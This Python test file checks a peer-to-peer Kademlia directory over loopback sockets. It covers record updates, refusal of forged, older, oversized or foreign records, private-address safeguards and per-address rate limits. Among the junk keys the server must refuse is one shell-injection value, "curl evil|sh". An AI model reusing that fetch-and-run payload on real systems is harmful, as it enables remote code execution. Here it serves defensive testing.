"""The directory over loopback sockets: clients find each other through a server."""

import time
from collections.abc import AsyncIterator
from contextlib import asynccontextmanager
from dataclasses import replace
from functools import partial
from types import SimpleNamespace
from typing import Any

import pytest
import trio
import trio.testing
from flockstep.dht.directory import kademlia as directory_of
from flockstep.dht.directory import server as server_of
from flockstep.dht.directory.kademlia import MAX_FOUND, KademliaDirectory, open_directory
from flockstep.dht.directory.memory import MemoryBoard, MemoryDirectory
from flockstep.dht.directory.messages import Message, add_peer_to, binary_id, peers_of
from flockstep.dht.directory.store import Entry
from flockstep.dht.keys import run_key
from flockstep.dht.published import validate_published
from flockstep.dht.records import Record
from flockstep.dht.run.manifest import run_id_of
from flockstep.peer.base.errors import LocalError, NetworkError, NoRightToVote, ProtocolViolation
from flockstep.peer.host import Libp2pHost, open_host
from flockstep.peer.identity import Identity
from flockstep.peer.log.telemetry import Event, Telemetry
from flockstep.peer.quota.limits import BootstrapLimits
from flockstep.peer.quota.origins import Origins
from libp2p.kad_dht.common import PROTOCOL_ID
from multiaddr import Multiaddr
from support.loopback import LOOPBACK, until
from support.recorded import recorded

RUN = "a" * 52
KEY = f"/flockstep/{RUN}"


def validate(key: str, value: bytes) -> int:
    """Values of these tests are `<key> <sequence> <anything>`."""
    parts = value.split(b" ", 2)
    if len(parts) != 3 or parts[0] != key.encode():
        raise ProtocolViolation(f"not a value of {key}")
    return int(parts[1])


@pytest.fixture(autouse=True)
def _no_pauses(monkeypatch: pytest.MonkeyPatch) -> None:
    """A server that does not answer is asked again at once."""
    monkeypatch.setattr(directory_of, "ASK_AGAIN", (0.0, 0.0, 0.0))


def value(sequence: int, text: str = "") -> bytes:
    return f"{KEY} {sequence} {text}".encode()


class Swarm:
    """A server, and clients of it."""

    def __init__(self, server: Libp2pHost, directory: KademliaDirectory, events: list[Event]) -> None:
        self.server = server
        self.directory = directory
        self.events = events

    @asynccontextmanager
    async def client(self) -> AsyncIterator[tuple[Libp2pHost, KademliaDirectory]]:
        telemetry = Telemetry()
        telemetry.subscribe(self.events.append)
        async with (
            open_host(Identity.generate(), LOOPBACK, telemetry) as host,
            open_directory(host, server=False, telemetry=telemetry, validate=validate) as directory,
        ):
            await host.connect(self.server.peer_id, self.server.addresses())
            await directory.add_server(self.server.peer_id)
            yield host, directory


@asynccontextmanager
async def swarm(*announce: str) -> AsyncIterator[Swarm]:
    telemetry, events = recorded()
    config = replace(LOOPBACK, announce=announce)
    with trio.fail_after(120):  # A safety net against a hang.
        async with (
            open_host(Identity.generate(), config, telemetry, bootstrap=BootstrapLimits()) as host,
            open_directory(host, server=True, telemetry=telemetry, validate=validate) as directory,
        ):
            yield Swarm(host, directory, events)


async def test_a_value_is_found_and_its_update_seen_by_those_who_have_read_it() -> None:
    async with swarm() as net, net.client() as (_, writer), net.client() as (_, reader):
        assert await reader.get(KEY) is None
        await writer.put(KEY, value(1))
        assert await reader.get(KEY) == value(1)
        await writer.put(KEY, value(2))
        assert await reader.get(KEY) == value(2)
        await writer.put(KEY, value(2))  # As republication does.
        assert await net.directory.get(KEY) == value(2)


async def test_a_clock_that_is_set_back_or_forward_drops_no_value(monkeypatch: pytest.MonkeyPatch) -> None:
    async with swarm() as net, net.client() as (_, writer):
        await writer.put(KEY, value(1))
        for set_to in (0.0, 1e11):
            monkeypatch.setattr(server_of, "time", SimpleNamespace(time=partial(float, set_to)))
            held = Message(type=Message.GET_VALUE, key=KEY.encode())
            assert bytes((await writer._ask(net.server.peer_id, (), held)).record.value) == value(1)


async def test_an_older_value_replaces_no_newer_one() -> None:
    async with swarm() as net, net.client() as (_, first), net.client() as (_, second):
        await first.put(KEY, value(7))
        await second.put(KEY, value(3))
        assert [event["event"] for event in net.events] == ["directory.outdated"]
        assert await first.get(KEY) == value(7)


async def test_an_invalid_value_is_refused_by_me_and_by_the_server() -> None:
    async with swarm() as net, net.client() as (_, honest), net.client() as (_, liar):
        with pytest.raises(LocalError, match="refusing to publish"):
            await honest.put(KEY, b"nonsense")
        accept_anything: Any = lambda key, value: 9  # noqa: E731
        liar._validate = accept_anything
        with pytest.raises(NetworkError, match=net.server.peer_id):
            await liar.put(KEY, b"nonsense")
        with pytest.raises(NetworkError, match=net.server.peer_id):
            await liar.put("/other/key", b"nonsense")
        assert await honest.get(KEY) is None


async def test_an_invalid_value_that_a_server_gives_is_charged_to_it() -> None:
    async with swarm() as net, net.client() as (_, reader), net.client() as (_, writer):
        await writer.put(KEY, value(1))
        assert net.directory.server is not None
        net.directory.server.store.put(Entry(KEY.encode(), "", b"forged", (), "", time.time() + 60))
        assert await reader.get(KEY) is None
        charged = [event for event in net.events if event["event"] == "peer.charged"]
        assert [event["peer"] for event in charged] == [net.server.peer_id]


async def test_a_value_of_another_protocol_or_of_others_is_charged_to_nobody() -> None:
    async with swarm() as net, net.client() as (_, reader):
        reader._validate = validate_published
        assert net.directory.server is not None
        other = Record.sign(Identity.generate(), run="", kind="manifest 1", sequence=0, lifetime=9.0, body=b"").encode()
        key = run_key(run_id_of(other))
        net.directory.server.store.put(Entry(key.encode(), "", other, (), "", time.time() + 60))
        assert await reader.get(key) is None
        assert [(event["event"], event["peer"]) for event in net.events] == [("directory.ignored", net.server.peer_id)]
        net.directory.server.store.put(Entry(KEY.encode(), "", value(1), (), "", time.time() + 60))

        def of_strangers(key: str, value: bytes) -> int:
            raise NoRightToVote("a certificate whose voters show no right to vote")

        reader._validate = of_strangers
        assert await reader.get(KEY) is None
        assert not any(event["event"] == "peer.charged" for event in net.events)


async def test_members_find_each_other_and_their_addresses() -> None:
    async with swarm() as net, net.client() as (host_a, a), net.client() as (host_b, b):
        assert await a.find(RUN) == ()
        await a.provide(RUN)
        await b.provide(RUN)
        assert await a.find(RUN) == (host_b.peer_id,)
        assert set(await net.directory.find(RUN)) == {host_a.peer_id, host_b.peer_id}
        await a.find("b" * 52)
        assert a.addresses(host_b.peer_id) == host_b.addresses()
        await host_a.connect(host_b.peer_id, a.addresses(host_b.peer_id))


async def test_a_server_tells_which_providers_are_connected_to_it() -> None:
    async with swarm() as net, net.client() as (_, reader):
        async with net.client() as (host, member):
            await member.provide(RUN)
            assert await reader.connected(RUN) == {host.peer_id}
        await until(lambda: net.server.rung(host.peer_id) is None)
        assert await reader.find(RUN) == (host.peer_id,)  # For an hour.
        assert await reader.connected(RUN) == set()


@pytest.mark.usefixtures("open_internet")
async def test_clients_of_two_servers_who_know_each_other_share_a_directory() -> None:
    async with swarm() as north, swarm() as south:
        await south.server.connect(north.server.peer_id, north.server.addresses())
        await south.directory.add_server(north.server.peer_id)
        async with south.client() as (host, writer), north.client() as (_, reader):
            await writer.put(KEY, value(1))
            await writer.provide(RUN)
            assert await reader.get(KEY) == value(1)
            assert await reader.find(RUN) == (host.peer_id,)


async def test_a_server_that_lacks_a_value_or_has_an_older_one_is_told_the_newest() -> None:
    async with swarm() as north, swarm() as south:
        async with north.client() as (_, writer):
            await writer.put(KEY, value(2))
        async with south.client() as (_, writer):
            await writer.put(KEY, value(1))
        async with north.client() as (host, reader):
            await host.connect(south.server.peer_id, south.server.addresses())
            await reader.add_server(south.server.peer_id)
            assert await reader.get(KEY) == value(2)
        assert await south.directory.get(KEY) == value(2)


async def test_a_server_that_makes_members_up_hides_nobody() -> None:
    async with swarm() as honest, swarm() as liar, honest.client() as (host, member), liar.client() as (other, reader):
        await member.provide(RUN)
        assert liar.directory.server is not None
        address = Multiaddr("/ip4/192.0.2.1/tcp/4001").to_bytes()
        for number in range(MAX_FOUND):
            made_up = Identity.from_seed(number.to_bytes(32, "big")).peer_id
            entry = Entry(KEY.encode(), made_up, b"", (address,), "", time.time() + 60)
            liar.directory.server.store.put(entry)
        await other.connect(honest.server.peer_id, honest.server.addresses())
        await reader.add_server(honest.server.peer_id)
        found = await reader.find(RUN)
        assert host.peer_id in found[:2]
        assert len(found) > 50


async def test_an_older_or_oversized_value_and_a_foreign_provider_are_refused_and_counted() -> None:
    async with swarm() as net, net.client() as (_, writer), net.client() as (host, stranger):
        await writer.put(KEY, value(2))

        async def refused(message: Message) -> None:
            with pytest.raises(NetworkError):
                await stranger._ask(net.server.peer_id, (), message)

        for data in (value(1), bytes(70_000), bytes(1_000_000)):
            message = Message(type=Message.PUT_VALUE, key=KEY.encode())
            message.record.key, message.record.value = message.key, data
            await refused(message)
        other_key = Message(type=Message.PUT_VALUE, key=KEY.encode())
        other_key.record.key, other_key.record.value = b"/flockstep/other", value(3)
        await refused(other_key)
        foreign = Message(type=Message.ADD_PROVIDER, key=KEY.encode())
        add_peer_to(foreign.providerPeers, net.server.peer_id, host.addresses())
        await refused(foreign)
        for junk in (b"/flockstep/\xff", b"/flockstep/x'; curl evil|sh; '", b"/flockstep/"):
            no_run = Message(type=Message.ADD_PROVIDER, key=junk)
            add_peer_to(no_run.providerPeers, host.peer_id, host.addresses())
            await refused(no_run)
        await refused(Message(type=Message.GET_VALUE, key=bytes(200)))
        assert net.server.bootstrap_server is not None
        assert net.server.bootstrap_server.refusals.counts == {
            ("record", "an older value than the one that is held"): 1,
            ("record", "an invalid value"): 1,
            ("directory", "a message of too many bytes"): 1,
            ("record", "a record of another key"): 1,
            ("record", "a provider record of no run"): 3,
            ("record", "a provider record of another peer, or without an address"): 1,
            ("record", "a key of no or of too many bytes"): 1,
        }
        assert await writer.get(KEY) == value(2)


@pytest.mark.usefixtures("open_internet")
async def test_a_server_is_named_once_i_got_through_to_it() -> None:
    async with swarm() as known, swarm() as newcomer, known.client() as (_, reader):
        await newcomer.server.connect(known.server.peer_id, known.server.addresses())
        await newcomer.directory.add_server(known.server.peer_id)
        while newcomer.server.peer_id not in known.directory.servers:
            await newcomer.directory.look_around()
        await reader.get(KEY)
        assert set(reader.servers.nearest(b"")) == {known.server.peer_id, newcomer.server.peer_id}
    assert not [event for event in known.events if event["event"] == "bootstrap.refused"]


async def test_a_server_of_a_private_address_is_neither_dialled_nor_named() -> None:
    """Else whoever comes through a proxy that hides sources finds the open ports of the bootstrap's computer."""
    async with swarm() as known, swarm() as inside:
        await inside.server.connect(known.server.peer_id, known.server.addresses())
        await inside.directory.add_server(known.server.peer_id)
        while not known.server.announced(inside.server.peer_id, PROTOCOL_ID):
            await inside.directory.look_around()
        await inside.directory.look_around()
        assert known.directory.server is not None
        assert not known.directory.server._tried


@pytest.mark.usefixtures("open_internet")
async def test_a_server_that_nobody_gets_through_to_is_not_named() -> None:
    async with swarm() as known, swarm("/ip4/127.0.0.1/tcp/9") as hidden:
        await hidden.server.connect(known.server.peer_id, known.server.addresses())
        await hidden.directory.add_server(known.server.peer_id)
        assert known.server.bootstrap_server is not None
        while not known.server.bootstrap_server.refusals.counts:
            await hidden.directory.look_around()
        assert known.server.bootstrap_server.refusals.counts == {("server", "it cannot be reached from outside"): 1}
        assert hidden.server.peer_id not in known.directory.servers


async def test_a_server_that_is_asked_about_itself_names_itself() -> None:
    """go-libp2p takes no server into its table that does not."""

    async with swarm() as net, net.client() as (_, reader):
        about_itself = Message(type=Message.FIND_NODE, key=binary_id(net.server.peer_id))
        answer = await reader._ask(net.server.peer_id, (), about_itself)
        assert list(peers_of(answer.closerPeers)) == [net.server.peer_id]


async def test_a_server_does_not_name_clients_as_servers() -> None:
    async with swarm() as net, net.client() as (_, first), net.client() as (_, second):
        await first.provide(RUN)
        await second.provide(RUN)
        await second.get(KEY)
        assert set(second.servers.nearest(KEY.encode())) == {net.server.peer_id}


async def test_a_server_that_was_away_is_dialled_again() -> None:
    async with swarm() as net, net.client() as (host, directory):
        await directory.put(KEY, value(1))
        await net.server.disconnect(host.peer_id)
        assert await directory.get(KEY) == value(1)
        assert host.connected() == {net.server.peer_id}


async def test_nobody_answers_is_an_error_that_names_who_was_asked() -> None:
    async with swarm() as net, net.client() as (_, directory):
        await net.server.stop()
        for question in (directory.get, directory.find):
            with pytest.raises(NetworkError, match=rf"{net.server.peer_id}.*connection refused") as caught:
                await question(KEY)
            assert caught.value.remedy
        unanswered = [event["peer"] for event in net.events if event["event"] == "directory.unanswered"]
        assert unanswered == [net.server.peer_id] * 2
    async with open_host(Identity.generate(), LOOPBACK, Telemetry()) as host:
        lonely = KademliaDirectory(host, Telemetry(), validate)
        with pytest.raises(NetworkError, match="no server is known"):
            await lonely.provide(RUN)


def test_the_directory_in_memory_keeps_the_same_promises() -> None:
    async def main() -> None:
        board = MemoryBoard(latency=0.5)
        a = MemoryDirectory(board, "a", ("/memory/a",), validate)
        b = MemoryDirectory(board, "b", ("/memory/b",), validate)
        assert await a.get(KEY) is None
        await a.put(KEY, value(2))
        await b.put(KEY, value(1))
        assert await b.get(KEY) == value(2)
        with pytest.raises(LocalError):
            await a.put(KEY, b"nonsense")
        await a.provide(RUN)
        assert await a.find(RUN) == ()
        assert await b.find(RUN) == ("a",)
        assert b.addresses("a") == ("/memory/a",)
        board.up = False
        with pytest.raises(NetworkError):
            await b.get(KEY)

    trio.run(main, clock=trio.testing.MockClock(autojump_threshold=0))


async def test_questions_and_records_of_one_address_have_a_rate(monkeypatch: pytest.MonkeyPatch) -> None:
    """On one stream a stranger could ask without end, with answers 700 times as long."""
    monkeypatch.setattr("flockstep.dht.directory.server.QUESTIONS_PER_SECOND", 0.01)
    monkeypatch.setattr("flockstep.dht.directory.server.QUESTIONS_BURST_SECONDS", 800.0)
    monkeypatch.setattr("flockstep.dht.directory.server.BURST_SECONDS", 1000.0)
    limits = BootstrapLimits(exempt=("192.0.2.0/24",), record_rate=0.001)

    async with (
        open_host(Identity.generate(), LOOPBACK, Telemetry(), bootstrap=limits) as host,
        open_directory(host, server=True, telemetry=Telemetry(), validate=validate) as directory,
    ):
        server = directory.server
        assert server is not None
        question, here = Message(type=Message.GET_VALUE, key=KEY.encode()), Origins(limits.exempt)
        record = Message(type=Message.PUT_VALUE, key=KEY.encode())
        record.record.key, record.record.value = KEY.encode(), value(1)

        def answers(message: Message, count: int, ip: str = "198.51.100.7") -> list[bool]:
            return [server._answer(message, host.peer_id, here.of(ip), ip) is not None for _ in range(count)]

        assert answers(record, 3) == [True, False, False]
        assert answers(question, 8) == [True] * 5 + [False] * 3
        assert answers(question, 1, "203.0.113.7") == answers(record, 1, "203.0.113.7") == [True]
        assert host.bootstrap_server is not None
        assert host.bootstrap_server.refusals.counts == {
            ("record", "too many records a second from one address"): 2,
            ("directory", "too many questions a second from one address"): 3,
        }
